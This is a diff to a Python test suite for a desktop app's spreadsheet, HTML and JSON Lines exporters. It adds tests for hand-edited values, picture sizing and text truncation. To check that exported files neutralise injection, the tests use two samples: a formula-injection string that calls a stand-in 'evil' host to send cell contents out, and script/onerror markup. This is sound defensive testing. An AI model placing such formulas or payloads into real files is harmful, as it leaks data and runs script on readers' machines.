@@ -13,16 +13,20 @@ from typing import Any
 
 import openpyxl
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from PIL import Image
 
 from desktop_app.adapters.exporters.csv_file import CsvExporter
 from desktop_app.adapters.exporters.html_file import HtmlExporter
 from desktop_app.adapters.exporters.jsonl_file import JsonLinesExporter
-from desktop_app.adapters.exporters.xlsx_file import LONGEST_TEXT, XlsxExporter
+from desktop_app.adapters.exporters.xlsx_cells import LONGEST_TEXT, shortened
+from desktop_app.adapters.exporters.xlsx_file import XlsxExporter
 from desktop_app.domain.forms.form import Date, Form, FormField, Number, Text, plain_form
-from desktop_app.domain.runs.exports import ExportOptions
+from desktop_app.domain.runs.exports import ExportOptions, PictureSize
 from tests.fakes.handed_over import VALUES, answered, failed, job, run
 
+EMU_PER_PX = 9525
 BAD = '=HYPERLINK("http://evil/?"&A1,"x")'
 MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)> & \"quoted\" 'too'"
 
@@ -123,7 +127,7 @@ def test_a_workbook_shows_each_picture_in_its_row(tmp_path: Path) -> None:
 
 def test_a_workbook_without_pictures_has_none(tmp_path: Path) -> None:
     path = tmp_path / "a.xlsx"
-    XlsxExporter().write(job(path, answered(), options=ExportOptions(pictures=False)))
+    XlsxExporter().write(job(path, answered(), options=ExportOptions(pictures=PictureSize.NONE)))
     sheet, _ = sheets_of(path)
     assert sheet["A1"].value == "Picture"
     assert not any("media" in name for name in zipfile.ZipFile(path).namelist())
@@ -134,7 +138,7 @@ def test_a_workbook_tells_about_the_run(tmp_path: Path) -> None:
     XlsxExporter().write(job(path, answered()))
     _, sheet = sheets_of(path)
     told = {row[0].value: row[1].value for row in sheet.iter_rows()}
-    assert told["Prompt"] == "Look at the steel."
+    assert told["Prompt"].startswith("Look at the steel.\n\nAnswer with one JSON object")
     assert told["Temperature"] == 0.2
     assert told["Lightdesk"] == "1.2.3"
     assert told["Is there rust?"] == "rust: yes or no"
@@ -173,6 +177,41 @@ def test_what_a_workbook_cannot_hold_is_written_as_text_or_cut_and_told(tmp_path
     assert sheet["D2"].value == "1850-01-02"
     assert len(sheet["E2"].value) == LONGEST_TEXT
     assert [(note.code, dict(note.values)["count"]) for note in notes] == [("texts-cut", 1)]
+
+
+def test_a_workbook_tells_what_was_changed_by_hand(tmp_path: Path) -> None:
+    path = tmp_path / "a.xlsx"
+    XlsxExporter().write(job(path, answered(1), answered(2, edited={"width": -3, "words": BAD})))
+    sheet = openpyxl.load_workbook(path).worksheets[2]
+    assert sheet.title == "Changed by hand"
+    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
+        ["Picture", "Field", "The answer said", "Changed to"],
+        ["span/IMG_0002.jpg", "Width", 12.5, -3],
+        ["span/IMG_0002.jpg", "What is seen", VALUES["words"], BAD],
+    ]
+    assert sheet["D3"].quotePrefix
+    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:D3")
+
+
+@pytest.mark.parametrize("px", [PictureSize.SMALL, PictureSize.MEDIUM, PictureSize.LARGE])
+def test_pictures_of_a_workbook_are_as_large_as_wanted(tmp_path: Path, px: PictureSize) -> None:
+    path = tmp_path / "a.xlsx"
+    XlsxExporter().write(job(path, answered(), options=ExportOptions(pictures=px)))
+    sheet, _ = sheets_of(path)
+    assert sheet.row_dimensions[2].height == pytest.approx((px.px + 4) * 0.75)
+    begins, ends = sheet._images[0].anchor._from, sheet._images[0].anchor.to
+    assert begins.col == ends.col == 0
+    assert (ends.colOff - begins.colOff) / EMU_PER_PX == min(px.px, 128), "never larger than it is"
+
+
+@given(st.text(st.sampled_from(["a", "\U0001f600", "\n", "王"]), min_size=20, max_size=200))
+def test_a_text_is_cut_at_excels_own_limit_and_never_within_a_character(some: str) -> None:
+    text = some * (40_000 // len(some))
+    kept = shortened(text)
+    units = len(kept.encode("utf-16-le")) // 2
+    assert text.startswith(kept)
+    assert units <= LONGEST_TEXT
+    assert kept == text or units >= LONGEST_TEXT - 1
 
 
 def test_json_lines_hold_all_that_is_known(tmp_path: Path) -> None:
@@ -214,7 +253,7 @@ def test_a_page_holds_everything_itself_and_runs_nothing(tmp_path: Path) -> None
     assert all(not name.startswith("on") for _, attributes in page.tags for name in attributes)
     addresses = [value for _, given in page.tags for name, value in given.items() if name in ("src", "href")]
     assert all(address is not None and address.startswith("data:image/jpeg;base64,") for address in addresses)
-    assert page.text.count("<script>alert(1)</script>") == 10
+    assert page.text.count("<script>alert(1)</script>") == 11
     policy = [given["content"] for tag, given in page.tags if "http-equiv" in given]
     assert policy == ["default-src 'none'; img-src data:; style-src 'unsafe-inline'"]
     assert "url(" not in path.read_text("utf-8")
